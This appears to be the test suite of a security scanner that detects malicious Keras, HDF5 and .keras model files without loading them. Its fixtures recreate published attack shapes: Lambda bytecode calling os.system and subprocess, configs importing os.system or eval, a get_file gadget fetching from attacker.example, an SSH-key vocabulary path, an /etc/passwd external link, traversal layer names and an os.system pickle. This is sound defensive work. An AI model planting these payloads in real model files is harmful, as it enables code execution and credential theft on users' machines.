"""The Keras scanner: configs judged without Keras, bytecode described without marshal,
HDF5 read in a child process, and nothing ever loaded or run.

Malicious configs here have the shapes of the published attacks (each test cites its
advisory); Lambda payloads are code objects compiled from source text, never executed.
"""

from __future__ import annotations

import base64
import importlib.util
import json
import marshal
import struct
import sys
import time
import types
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from samples import keras_tf_onnx as samples
from scanning import mutated

from phalanx.core.findings import Finding, Severity
from phalanx.supplychain.scan.base import ScanLimits, ScanSession, Source
from phalanx.supplychain.scan.keras import (
    KerasScanner,
    analyse_config,
    describe_code,
    hdf5_probe,
)
from phalanx.supplychain.scan.pickles import PickleScanner
from phalanx.supplychain.scan.policy import load_policy
from phalanx.testing import check_plugin

h5py_required = pytest.mark.skipif(importlib.util.find_spec("h5py") is None,
                                   reason="needs h5py")

POLICY = load_policy()


def _session(**limits: Any) -> ScanSession:
    keras = KerasScanner(hdf5_timeout=30.0)
    return ScanSession(scanners={"keras": keras, "hdf5": keras, "pickle": PickleScanner()},
                       limits=ScanLimits(**limits))


def _scan(path: Path, **limits: Any) -> list[Finding]:
    return list(_session(**limits).scan(Source.from_path(path)))


def _rules(findings: list[Any], level: Severity = Severity.LOW) -> set[str]:
    out = set()
    for f in findings:
        if f.severity >= level:
            out.add(f.evidence["rule"] if isinstance(f, Finding) else f.rule)
    return out


def _issues(config: Any) -> list[Any]:
    return analyse_config(config, policy=POLICY)


def _lambda_code(source: str) -> types.CodeType:
    module = compile(source, "<lambda>", "eval")
    return next(c for c in module.co_consts if isinstance(c, types.CodeType))


# -- describe_code -----------------------------------------------------------------------------


def test_describe_code_names_what_the_bytecode_uses() -> None:
    code = _lambda_code("lambda x: (__import__('os').system('touch /tmp/x'), x)[1]")
    summary = describe_code(marshal.dumps(code))
    assert summary["python"] == ("3.11+" if sys.version_info >= (3, 11) else "3.8-3.10")
    assert {"__import__", "system"} <= set(summary["names"])
    assert "os" in summary["strings"] and "touch /tmp/x" in summary["strings"]
    assert summary["suspicious"] == ["__import__", "os", "system"]
    assert summary["functions"] == ["<lambda>"]


def test_describe_code_walks_nested_code_and_every_constant_type() -> None:
    source = """
def outer(x, *a, k=1, **kw):
    big = 2 ** 100
    values = (1.5, 2j, b"raw", None, True, Ellipsis, frozenset({1, 2}), "text", -big)
    def inner(y):
        import subprocess
        return subprocess.check_output(y)
    return inner, values, {'a': 1}, [1, 2], {3}
"""
    module = compile(source, "<m>", "exec")
    outer = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    summary = describe_code(marshal.dumps(outer))
    assert "error" not in summary
    assert {"subprocess", "check_output"} <= set(summary["suspicious"])
    assert any(f.endswith("inner") for f in summary["functions"])


def test_describe_code_never_calls_marshal(monkeypatch: pytest.MonkeyPatch) -> None:
    blob = marshal.dumps(_lambda_code("lambda x: x"))

    def forbidden(*args: object) -> None:
        raise AssertionError("marshal.loads must not be used")

    monkeypatch.setattr(marshal, "loads", forbidden)
    assert describe_code(blob)["functions"] == ["<lambda>"]


@pytest.mark.parametrize("blob", [b"", b"not code", b"c" + b"\x00" * 3, b"\xe3" + b"\xff" * 40])
def test_describe_code_rejects_what_is_not_bytecode(blob: bytes) -> None:
    assert "error" in describe_code(blob)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_describe_code_survives_mutated_bytecode(data: st.DataObject) -> None:
    blob = mutated(data, marshal.dumps(_lambda_code(
        "lambda x: (__import__('os').system('id'), {'a': (1, 2.5, b'z')}, x)[2]")),
        max_edits=6, min_keep=0)
    started = time.perf_counter()
    summary = describe_code(blob)
    assert time.perf_counter() - started < 1.0
    assert isinstance(summary, dict) and "bytes" in summary


# -- analyse_config: Lambda layers ---------------------------------------------------------------


def _b64(source: str) -> str:
    return base64.b64encode(marshal.dumps(_lambda_code(source))).decode()


def test_keras2_lambda_is_critical_with_its_bytecode_described() -> None:
    # CVE-2024-3660: tf.keras < 2.13 rebuilds the lambda from its marshalled bytecode.
    config = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda",
              "config": {"name": "evil", "function": [_b64("lambda x: __import__('os')"
                                                            ".system('id') or x"), None, None],
                         "function_type": "lambda", "module": "__main__"}}]}}
    (issue,) = _issues(config)
    assert issue.rule == "keras-lambda" and issue.severity is Severity.CRITICAL
    assert issue.evidence["layer"] == "evil"
    assert issue.evidence["code"]["suspicious"] == ["__import__", "os", "system"]
    assert "os, system" in issue.detail


def test_lambda_found_in_nested_models_and_wrappers() -> None:
    lam = {"class_name": "Lambda", "config": {"name": "deep", "function": [_b64("lambda x: x"),
                                                                           None, None]}}
    config = {"class_name": "Functional", "config": {"layers": [
        {"class_name": "TimeDistributed", "config": {"layer": {
            "class_name": "Bidirectional", "config": {"layer": {
                "class_name": "Sequential", "config": {"layers": [lam]}}}}}}]}}
    (issue,) = _issues(config)
    assert issue.rule == "keras-lambda"
    assert issue.evidence["paths"] == [
        "$.config.layers[0].config.layer.config.layer.config.layers[0]"]


def test_keras3_lambda_formats_are_decoded() -> None:
    code = _b64("lambda x: __import__('subprocess').run(['id'])")
    for inner in ({"value": [code, None, None]}, {"code": code, "defaults": None,
                                                  "closure": None}):
        config = {"module": "keras.layers", "class_name": "Lambda",
                  "config": {"name": "l", "function": {"class_name": "__lambda__",
                                                       "config": inner}}}
        (issue,) = _issues(config)
        assert issue.rule == "keras-lambda"
        assert {"subprocess", "run"} <= set(issue.evidence["code"]["suspicious"])


def test_savedmodel_metadata_tuple_encoding_is_decoded() -> None:
    config = {"class_name": "Lambda", "config": {"name": "l", "function": {
        "class_name": "__tuple__", "items": [_b64("lambda x: eval('x')"), None, None]},
        "function_type": "lambda"}}
    (issue,) = _issues(config)
    assert "eval" in issue.evidence["code"]["suspicious"]


def test_lambda_naming_a_function_is_medium() -> None:
    keras3 = {"module": "keras.layers", "class_name": "Lambda", "config": {
        "name": "sq", "function": {"module": "keras.ops", "class_name": "function",
                                   "config": "square", "registered_name": None}}}
    keras2 = {"class_name": "Lambda", "config": {"name": "n", "function": "l2_normalize",
                                                 "function_type": "function",
                                                 "module": "tensorflow.python.ops.nn_impl"}}
    for config in (keras3, keras2):
        (issue,) = _issues(config)
        assert (issue.rule, issue.severity) == ("keras-lambda", Severity.MEDIUM)
    assert _issues(keras3)[0].evidence["function"] == "keras.ops.square"


def test_lambda_output_shape_bytecode_is_critical() -> None:
    config = {"class_name": "Lambda", "config": {
        "name": "l", "function": "identity_fn", "function_type": "function",
        "output_shape": [_b64("lambda s: __import__('os').system('id') or s"), None, None],
        "output_shape_type": "lambda"}}
    (issue,) = _issues(config)
    assert issue.severity is Severity.CRITICAL
    assert "system" in issue.evidence["output_shape_code"]["suspicious"]
    raw = {"class_name": "Lambda", "config": {"name": "l", "function": "f",
                                              "output_shape": [None, 4],
                                              "output_shape_type": "raw"}}
    assert _issues(raw)[0].severity is Severity.MEDIUM


def test_bare_serialised_lambda_anywhere_is_critical() -> None:
    config = {"compile_config": {"loss": {"class_name": "__lambda__",
                                          "config": {"value": [_b64("lambda a, b: a"),
                                                               None, None]}}}}
    assert _rules(_issues(config), Severity.CRITICAL) == {"keras-lambda"}


# -- analyse_config: module references ------------------------------------------------------------


@pytest.mark.parametrize(("module", "name"), [
    ("os", "system"), ("subprocess", "Popen"), ("builtins", "exec"), ("builtins", "eval"),
    ("posix", "system"), ("runpy", "run_path"), ("importlib", "import_module"),
])
def test_config_importing_a_dangerous_module_is_critical(module: str, name: str) -> None:
    # CVE-2025-1550: Keras < 3.9 imports config["module"] and returns config["config"].
    config = {"module": "keras.layers", "class_name": "Dense", "config": {
        "name": "d", "activation": {"module": module, "class_name": "function",
                                    "config": name, "registered_name": None}}}
    (issue,) = _issues(config)
    assert issue.rule == "keras-unsafe-import" and issue.severity is Severity.CRITICAL
    assert issue.evidence["module"] == module and issue.evidence["name"] == name
    assert "CVE-2025-1550" in issue.evidence["cve"]


def test_class_reference_to_a_dangerous_module_is_critical() -> None:
    config = {"module": "subprocess", "class_name": "Popen", "config": {}}
    assert _rules(_issues(config), Severity.CRITICAL) == {"keras-unsafe-import"}


def test_typespec_module_is_checked() -> None:
    config = {"class_name": "__typespec__", "spec_name": "system", "module": "os",
              "config": [], "registered_name": None}
    assert _rules(_issues(config), Severity.CRITICAL) == {"keras-unsafe-import"}
    benign = {"class_name": "__typespec__", "spec_name": "TensorSpec",
              "module": "tensorflow.python.framework.tensor_spec", "config": []}
    assert not _issues(benign)


def test_builtins_module_with_a_keras_function_name_is_fine() -> None:
    config = {"module": "builtins", "class_name": "function", "config": "relu",
              "registered_name": "function"}
    assert not _issues(config)


@pytest.mark.parametrize(("name", "cve"), [
    ("get_file", "CVE-2025-8747"), ("enable_unsafe_deserialization", "CVE-2025-9906"),
])
def test_keras_internal_gadgets(name: str, cve: str) -> None:
    # GHSA-c9rc-mg46-23w3: keras.utils.get_file passes the 3.9 module allowlist.
    config = {"module": "keras.layers", "class_name": "Lambda", "config": {
        "name": "l", "function": {"module": "keras.utils" if name == "get_file"
                                  else "keras.config", "class_name": "function",
                                  "config": name},
        "arguments": {"origin": "https://attacker.example/x", "cache_dir": "/tmp"}}}
    issues = _issues(config)
    gadget = next(i for i in issues if i.rule == "keras-safe-mode-bypass")
    assert gadget.severity is Severity.CRITICAL and gadget.evidence["cve"] == cve
    assert "keras-lambda" in _rules(issues)


def test_tfsm_layer_lookup_vocabulary_path_and_torch_wrapper() -> None:
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [
        {"module": "keras.layers", "class_name": "TFSMLayer",
         "config": {"name": "t", "filepath": "/tmp/attacker_savedmodel"}},
        {"module": "keras.layers", "class_name": "StringLookup",
         "config": {"name": "s", "vocabulary": "/home/user/.ssh/id_rsa"}},
        {"module": "keras.layers", "class_name": "StringLookup",
         "config": {"name": "ok", "vocabulary": ["a", "b"]}},
        {"module": "keras.layers", "class_name": "TorchModuleWrapper",
         "config": {"name": "w", "module": "gAJjb3MKc3lzdGVtCg=="}},
    ]}}
    by_rule = {i.rule: i for i in _issues(config)}
    assert by_rule["keras-external-model"].severity is Severity.HIGH  # CVE-2026-1462
    assert by_rule["keras-file-reference"].evidence["vocabulary"] == "/home/user/.ssh/id_rsa"
    assert by_rule["keras-file-reference"].evidence["cve"] == "CVE-2025-12058"
    assert by_rule["keras-torch-module"].severity is Severity.CRITICAL
    assert len([i for i in _issues(config) if i.rule == "keras-file-reference"]) == 1


@pytest.mark.parametrize("name", ["..", "../../.ssh", "/etc/cron.d/x", "a/../../b",
                                  "..\\..\\x", "C:\\Windows\\x"])
def test_layer_names_that_escape_are_high(name: str) -> None:
    # CVE-2026-12479: DiskIOStore builds paths from layer names.
    config = {"module": "keras.layers", "class_name": "Dense", "config": {"name": name}}
    assert _rules(_issues(config), Severity.HIGH) == {"keras-path-traversal"}


@pytest.mark.parametrize("name", ["dense", "dense_1", "block1/conv", "a..b", "x:0"])
def test_ordinary_layer_names_pass(name: str) -> None:
    assert not _issues({"class_name": "Dense", "config": {"name": name}})


# -- analyse_config: custom objects ---------------------------------------------------------------


def test_custom_objects_are_medium() -> None:
    configs = [
        {"module": "my_project.layers", "class_name": "Antirectifier", "config": {},
         "registered_name": "MyProject>Antirectifier"},
        {"module": None, "class_name": "Antirectifier", "config": {}},
        {"class_name": "Antirectifier", "config": {}},  # Keras 2: names without modules
        {"class_name": "function", "config": "my_loss"},
        {"module": "tensorflow.python.ops.nn_ops", "class_name": "function",
         "config": "relu6"},
    ]
    for config in configs:
        (issue,) = _issues(config)
        assert issue.rule == "keras-custom-object" and issue.severity is Severity.MEDIUM


def test_repeated_custom_objects_collapse_with_a_count() -> None:
    layer = {"module": "my.layers", "class_name": "Block", "config": {}}
    (issue,) = _issues({"layers": [dict(layer) for _ in range(20)]})
    assert issue.evidence["count"] == 20 and len(issue.evidence["paths"]) == 8


def test_custom_activation_names_are_low() -> None:
    issues = _issues({"class_name": "Dense", "config": {"name": "d", "activation": "my_act"}})
    assert [(i.rule, i.severity) for i in issues] == [("keras-custom-object", Severity.LOW)]


def test_keras_2_11_optimizer_names_pass() -> None:
    assert not _issues({"optimizer_config": {"class_name": "Custom>Adam", "config": {}}})


def test_benign_configs_give_no_issue() -> None:
    assert not _issues(samples._sequential2([samples._dense2("dense", 8, "relu", 4)]))
    assert not _issues(samples._TRAINING_CONFIG2)
    assert not _issues(samples._sequential3())


def test_walk_is_bounded() -> None:
    wide = {"layers": [{"class_name": "Dense", "config": {}} for _ in range(100)]}
    issues = analyse_config(wide, policy=POLICY, max_nodes=50)
    assert [i.rule for i in issues] == ["keras-config-limit"]
    assert issues[0].evidence["incomplete"]


def test_deep_nesting_does_not_overflow() -> None:
    deep: Any = {"module": "os", "class_name": "function", "config": "system"}
    for _ in range(50_000):
        deep = {"config": {"layer": deep}}
    assert _rules(_issues(deep), Severity.CRITICAL) == {"keras-unsafe-import"}


@settings(max_examples=200, deadline=None)
@given(st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20)
    | st.sampled_from(["Lambda", "__lambda__", "function", "os", "keras.layers", "..",
                       "class_name", "module", "config", "TFSMLayer", "StringLookup"]),
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(st.sampled_from(["class_name", "module", "config", "name", "function",
                                       "vocabulary", "registered_name", "value", "items",
                                       "layers", "activation"]), children, max_size=5),
    max_leaves=40))
def test_analyse_config_never_raises(config: Any) -> None:
    for issue in analyse_config(config, policy=POLICY):
        assert isinstance(issue.severity, Severity)
        json.dumps(issue.evidence)


# -- the scanner: HDF5 --------------------------------------------------------------------------


def test_scanner_contract() -> None:
    check_plugin(KerasScanner)
    assert KerasScanner().get_params() == {"hdf5_timeout": 60.0}


@h5py_required
def test_benign_h5_and_plain_hdf5_give_nothing(tmp_path: Path) -> None:
    import h5py
    import numpy as np

    assert _scan(samples._h5_benign(tmp_path / "k", tmp_path / "C")) == []
    plain = tmp_path / "data.h5"
    with h5py.File(plain, "w") as h5:
        h5.create_dataset("x", data=np.arange(10))
        h5["alias"] = h5py.SoftLink("/x")
        h5["group/loop"] = h5["/"]  # a hard link back to the root: a cycle
    assert _scan(plain) == []


@h5py_required
def test_h5_lambda_and_canary_untouched(tmp_path: Path) -> None:
    canary = tmp_path / "CANARY"
    findings = _scan(samples._h5_lambda(tmp_path / "k", canary))
    assert _rules(findings, Severity.CRITICAL) == {"keras-lambda"}
    (lam,) = findings
    assert lam.evidence["where"] == "model_config"
    assert lam.evidence["code"]["suspicious"] == ["__import__", "os", "system"]
    assert not canary.exists()


@h5py_required
def test_h5_variable_length_string_config(tmp_path: Path) -> None:
    import h5py

    path = tmp_path / "vlen.h5"
    config = {"class_name": "Sequential", "config": {"layers": [
        {"class_name": "Dense", "config": {"name": "d", "activation": {
            "module": "os", "class_name": "function", "config": "system"}}}]}}
    with h5py.File(path, "w") as h5:
        h5.attrs.create("model_config", json.dumps(config), dtype=h5py.string_dtype())
    assert _rules(_scan(path), Severity.CRITICAL) == {"keras-unsafe-import"}


@h5py_required
def test_h5_training_config_is_checked(tmp_path: Path) -> None:
    import h5py

    path = tmp_path / "t.h5"
    with h5py.File(path, "w") as h5:
        h5.attrs["model_config"] = json.dumps(samples._sequential2([])).encode()
        h5.attrs["training_config"] = json.dumps({"loss": {
            "module": "builtins", "class_name": "function", "config": "eval"}}).encode()
    (finding,) = _scan(path)
    assert finding.evidence["where"] == "training_config"
    assert finding.evidence["rule"] == "keras-unsafe-import"


@h5py_required
@pytest.mark.parametrize(("value", "rule"), [
    (b"{not json", "malformed"),
    (7, "malformed"),
])
def test_h5_bad_configs_are_malformed(tmp_path: Path, value: Any, rule: str) -> None:
    import h5py

    path = tmp_path / "bad.h5"
    with h5py.File(path, "w") as h5:
        h5.attrs["model_config"] = value
    (finding,) = _scan(path)
    assert finding.evidence["rule"] == rule and finding.severity is Severity.MEDIUM


@h5py_required
def test_h5_config_over_the_header_limit(tmp_path: Path) -> None:
    path = samples._h5_benign(tmp_path / "k", tmp_path / "C")
    rules = _rules(_scan(path, max_header_bytes=64), Severity.MEDIUM)
    assert rules == {"header-too-large"}


@h5py_required
def test_hdf5_pointers_to_other_files(tmp_path: Path) -> None:
    import h5py
    import numpy as np

    (tmp_path / "other.h5").write_bytes(b"")
    raw = tmp_path / "raw.bin"
    raw.write_bytes(b"\x00" * 40)
    path = tmp_path / "links.h5"
    with h5py.File(path, "w") as h5:
        h5["ext"] = h5py.ExternalLink("/etc/passwd", "/root")
        h5.create_dataset("stored", shape=(10,), dtype="f4", external=[(str(raw), 0, 40)])
        layout = h5py.VirtualLayout(shape=(4,), dtype="i4")
        layout[:] = h5py.VirtualSource("other.h5", "data", shape=(4,))
        h5.create_virtual_dataset("virtual", layout)
        h5.create_dataset("fine", data=np.zeros(3))
    findings = _scan(path)
    kinds = sorted(f.evidence["kind"] for f in findings)
    assert kinds == ["external link", "external storage", "virtual dataset"]
    assert {f.evidence["rule"] for f in findings} == {"hdf5-external-reference"}
    assert all(f.severity is Severity.MEDIUM for f in findings)


@h5py_required
def test_hdf5_links_to_one_object_and_cycles(tmp_path: Path) -> None:
    import h5py

    raw = tmp_path / "raw.bin"
    raw.write_bytes(b"\x00" * 40)
    path = tmp_path / "loops.h5"
    with h5py.File(path, "w") as h5:
        group = h5.create_group("g")
        group.create_dataset("stored", shape=(10,), dtype="f4", external=[(str(raw), 0, 40)])
        h5["alias"] = h5["g"]  # a second hard link to the group
        h5["g"]["again"] = h5["g"]["stored"]  # and to the dataset
        h5["g"]["up"] = h5["/"]  # a cycle back to the root
    report = hdf5_probe(path, 1 << 20, 1000)
    assert "error" not in report and not report.get("truncated")
    assert [e["kind"] for e in report["external"]] == ["external storage"]
    assert report["external"][0]["file"] == str(raw)


@h5py_required
def test_hdf5_object_budget(tmp_path: Path) -> None:
    import h5py

    path = tmp_path / "many.h5"
    with h5py.File(path, "w") as h5:
        for i in range(30):
            h5.create_group(f"g{i}")
    assert _rules(_scan(path, max_members=10), Severity.MEDIUM) == {"hdf5-too-many-objects"}


@h5py_required
def test_hdf5_probe_in_process(tmp_path: Path) -> None:
    path = samples._h5_benign(tmp_path / "k", tmp_path / "C")
    report = hdf5_probe(path, 1 << 20, 1000)
    assert set(report["attrs"]) == {"model_config", "training_config"}
    assert report["external"] == [] and "error" not in report


def test_missing_h5py_fails_closed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "m.h5"
    path.write_bytes(b"\x89HDF\r\n\x1a\n" + b"\x00" * 100)
    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec",
                        lambda name, *a: None if name == "h5py" else real(name, *a))
    (finding,) = _scan(path)
    assert finding.evidence["rule"] == "scan-error"
    assert "h5py is not installed" in finding.title
    assert finding.evidence["incomplete"]


@h5py_required
def test_hung_or_crashed_hdf5_reader_fails_closed(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    from phalanx.supplychain.scan import keras as keras_module

    path = samples._h5_benign(tmp_path / "k", tmp_path / "C")
    # The reader runs in a forked worker (a fresh interpreter where fork is unavailable); the
    # worker runs the module's hdf5_probe, replaced here by a hang and by a crash. A worker
    # started before the patch would still run the real probe, so each patch stops it.
    import os
    import time

    real_probe = keras_module.hdf5_probe
    hang = "import time; time.sleep(30)"
    monkeypatch.setattr(keras_module, "_PROBE_CALL", hang)
    monkeypatch.setattr(keras_module, "hdf5_probe", lambda *args: time.sleep(30))
    keras_module.stop_hdf5_worker()
    scanner = KerasScanner(hdf5_timeout=1.0)
    findings = list(scanner.scan_source(Source.from_path(path), _session()))
    assert [f.evidence["rule"] for f in findings] == ["scan-error"]
    assert "did not finish" in findings[0].title
    monkeypatch.setattr(keras_module, "_PROBE_CALL", "import os; os.abort()")
    monkeypatch.setattr(keras_module, "hdf5_probe", lambda *args: os.abort())
    keras_module.stop_hdf5_worker()
    (crash,) = list(scanner.scan_source(Source.from_path(path), _session()))
    assert "signal" in crash.title
    # After the crash the next file gets a fresh worker, which reads it normally.
    monkeypatch.setattr(keras_module, "hdf5_probe", real_probe)
    keras_module.stop_hdf5_worker()
    assert list(scanner.scan_source(Source.from_path(path), _session())) == []


@h5py_required
def test_hdf5_worker_is_reused_and_not_shared_with_forks(tmp_path: Path) -> None:
    import os

    from phalanx.supplychain.scan import keras as keras_module

    lam = samples._h5_lambda(tmp_path / "l", tmp_path / "CANARY")
    benign = samples._h5_benign(tmp_path / "b", tmp_path / "CANARY")
    keras_module.stop_hdf5_worker()
    assert _rules(_scan(lam), Severity.CRITICAL) == {"keras-lambda"}
    worker = keras_module._WORKER._pid
    assert worker and _scan(benign) == [] and keras_module._WORKER._pid == worker
    read_fd, write_fd = os.pipe()
    pid = os.fork()
    if pid == 0:  # a forked copy must not talk to its parent's worker
        try:
            ok = _rules(_scan(lam), Severity.CRITICAL) == {"keras-lambda"}
            ok = ok and keras_module._WORKER._pid not in (0, worker)
            os.write(write_fd, b"1" if ok else b"0")
        finally:
            os._exit(0)
    os.close(write_fd)
    assert os.read(read_fd, 1) == b"1"
    os.close(read_fd)
    os.waitpid(pid, 0)
    assert _scan(benign) == [] and keras_module._WORKER._pid == worker
    assert not (tmp_path / "CANARY").exists()


@pytest.fixture(scope="module")
def h5_lambda(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    base = tmp_path_factory.mktemp("h5")
    return samples._h5_lambda(base, Path("/nonexistent/CANARY")).read_bytes()


@h5py_required
@settings(max_examples=15, deadline=None, suppress_health_check=[
    HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.function_scoped_fixture])
@given(st.data())
def test_mutated_h5_never_raises(h5_lambda: bytes, tmp_path_factory: pytest.TempPathFactory,
                                 data: st.DataObject) -> None:
    base = tmp_path_factory.mktemp("fuzz")
    path = base / "m.h5"
    path.write_bytes(mutated(data, h5_lambda))
    scanner = KerasScanner(hdf5_timeout=10.0)
    for finding in scanner.scan_source(Source.from_path(path), _session()):
        assert isinstance(finding, Finding)


# -- the scanner: .keras archives --------------------------------------------------------------


@h5py_required
def test_keras3_member_with_a_bad_crc_is_damaged_not_a_scanner_error(tmp_path: Path) -> None:
    """zipfile raises at the end of a member whose CRC does not match (found by fuzzing): the
    weights are reported as a damaged member, beside the archive check's bad-CRC finding."""
    path = samples._keras3_benign(tmp_path / "b", tmp_path / "CANARY")
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("model.weights.h5")
    name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
    last = info.header_offset + 30 + name_len + extra_len + info.compress_size - 1
    data[last] ^= 0xFF
    path.write_bytes(bytes(data))
    findings = _scan(path)
    assert "scan-error" not in _rules(findings), [f.title for f in findings]
    assert any("'model.weights.h5' is damaged (BadZipFile: Bad CRC-32" in f.title
               for f in findings), [f.title for f in findings]


@h5py_required
def test_keras3_samples(tmp_path: Path) -> None:
    canary = tmp_path / "CANARY"
    assert _scan(samples._keras3_benign(tmp_path / "b", canary)) == []
    lam = _scan(samples._keras3_lambda(tmp_path / "l", canary))
    assert _rules(lam, Severity.CRITICAL) == {"keras-lambda"}
    assert lam[0].evidence["where"] == "config.json"
    imp = _scan(samples._keras3_import_subprocess(tmp_path / "s", canary))
    assert "keras-unsafe-import" in _rules(imp, Severity.CRITICAL)
    assert not canary.exists()


def _keras_zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


_META = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-02-10@14:03:51"}).encode()


def test_keras_zip_members_are_scanned_by_content(tmp_path: Path) -> None:
    evil_pickle = b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
    path = _keras_zip(tmp_path / "m.keras", {
        "metadata.json": _META, "config.json": json.dumps(samples._sequential3()).encode(),
        "assets/tokenizer.bin": evil_pickle})
    findings = _scan(path)
    assert any(f.severity >= Severity.HIGH and f.evidence.get("format") == "pickle"
               for f in findings)
    assert any("assets/tokenizer.bin" in f.evidence["file"] for f in findings)


def test_keras_zip_bad_config(tmp_path: Path) -> None:
    path = _keras_zip(tmp_path / "m.keras", {"metadata.json": _META,
                                             "config.json": b"{\"class_name\": "})
    assert _rules(_scan(path), Severity.MEDIUM) == {"malformed"}
    big = _keras_zip(tmp_path / "big.keras", {
        "metadata.json": _META, "config.json": json.dumps(samples._sequential3()).encode()})
    assert "header-too-large" in _rules(_scan(big, max_header_bytes=100), Severity.MEDIUM)


def test_keras_zip_member_limits(tmp_path: Path) -> None:
    path = _keras_zip(tmp_path / "m.keras", {
        "metadata.json": _META, "config.json": json.dumps(samples._sequential3()).encode(),
        "assets/big.bin": b"\x00" * 5000})
    rules = _rules(_scan(path, max_member_bytes=1000), Severity.MEDIUM)
    assert "member-too-large" in rules


def test_keras_zip_traversal_without_the_archive_module(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from phalanx.supplychain.scan import archive

    monkeypatch.setattr(archive, "check_zip_structure", None)
    path = _keras_zip(tmp_path / "m.keras", {
        "metadata.json": _META, "config.json": json.dumps(samples._sequential3()).encode(),
        "../../evil.txt": b"hello"})
    assert "zip-path-traversal" in _rules(_scan(path), Severity.HIGH)


def test_keras_zip_structure_checks_come_from_the_archive_module(tmp_path: Path) -> None:
    path = _keras_zip(tmp_path / "m.keras", {
        "metadata.json": _META, "config.json": json.dumps(samples._sequential3()).encode(),
        "../../evil.txt": b"hello"})
    findings = _scan(path)
    assert any(f.severity >= Severity.HIGH for f in findings)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_mutated_keras_config_never_raises(tmp_path_factory: pytest.TempPathFactory,
                                           data: st.DataObject) -> None:
    text = bytearray(json.dumps(samples._sequential3([samples._layer3("Lambda", {
        "name": "l", "function": {"class_name": "__lambda__", "config": {
            "value": [_b64("lambda x: x"), None, None]}}})])).encode())
    for _ in range(data.draw(st.integers(1, 10))):
        text[data.draw(st.integers(0, len(text) - 1))] = data.draw(st.sampled_from(
            [*b'{}[]",:0aZ\\ ', 0, 255]))
    path = _keras_zip(tmp_path_factory.mktemp("k") / "m.keras",
                      {"metadata.json": _META, "config.json": bytes(text)})
    started = time.perf_counter()
    findings = list(KerasScanner().scan_source(Source.from_path(path), _session()))
    assert time.perf_counter() - started < 5.0
    assert all(isinstance(f, Finding) for f in findings)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_mutated_keras_zip_never_raises(tmp_path_factory: pytest.TempPathFactory,
                                        data: st.DataObject) -> None:
    base = tmp_path_factory.mktemp("z")
    config = json.dumps(samples._sequential3()).encode()
    with zipfile.ZipFile(base / "m.keras", "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", _META)
        zf.writestr("config.json", config)
        zf.writestr("assets/vocab.txt", b"a\nb\nc\n" * 50)
    path = base / "mutated.keras"
    path.write_bytes(mutated(data, (base / "m.keras").read_bytes()))
    started = time.perf_counter()
    findings = list(KerasScanner().scan_source(Source.from_path(path), _session()))
    assert time.perf_counter() - started < 5.0
    assert all(isinstance(f, Finding) for f in findings)
